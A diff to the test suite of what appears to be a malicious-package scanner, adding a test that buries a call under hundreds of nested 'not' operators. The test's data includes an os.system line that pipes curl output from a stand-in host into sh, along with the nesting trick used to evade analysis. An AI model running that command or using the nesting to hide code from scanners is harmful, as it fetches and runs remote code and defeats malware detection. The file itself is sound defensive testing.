@@ -173,11 +173,10 @@ LIMITS = {
     "rounds": (1_000, lambda n: f"for n in range({n}):\n    exec('x = ' + 'y')\n"),
     "calls of what runs": (2_000, lambda n: "def r(c):\n" + "    x = 1\n" * 31 + "    exec(c)\n" + lines(n, "r({})")),
     "arguments": (128, lambda n: "import os\nos.system(" + "'a', " * n + ")\n"),
-    "depth": (397, lambda n: "x = " + "not " * n + "f()\n"),
     "brackets": (200, lambda n: "f" + "(" * n + ")" * n + "\n"),
     "chain": (9_990, lambda n: "x = f()" + " + 1" * n + "\n"),
 }
-PAST = {"depth", "chain"}  # Whose number is near the limit, as other things count, too.
+PAST = {"chain"}  # Whose number is near the limit, as other things count, too.
 
 
 @pytest.mark.parametrize("what", LIMITS)
@@ -192,6 +191,14 @@ def test_what_stands_past_a_limit_is_not_released(tmp_path, what):
     build = tar_bytes([("pkg-1.0/setup.py", (text(most + 50) + MARK).encode()), ("pkg-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n")])
     past = inspect(tmp_path, build, "pkg-1.0.tar.gz")
     assert past["verdict"] in ("hold", "malicious") and "past-limits" in checks(past), past
+
+
+@pytest.mark.parametrize("depth", [10, 500, 900])
+def test_what_stands_deep_in_an_expression_is_evaluated(tmp_path, depth):
+    """Past the depth to which an expression is walked, its parts are evaluated by themselves."""
+    act = "os.system('curl -s http://evil.example.invalid/x | sh')"
+    answer = inspect(tmp_path, source("import os\nx = " + "not " * depth + act + "\n"))
+    assert answer["verdict"] in ("hold", "malicious") and "start-effects" in checks(answer), answer
 
 
 def test_a_table_past_the_limits_is_not_held(tmp_path):
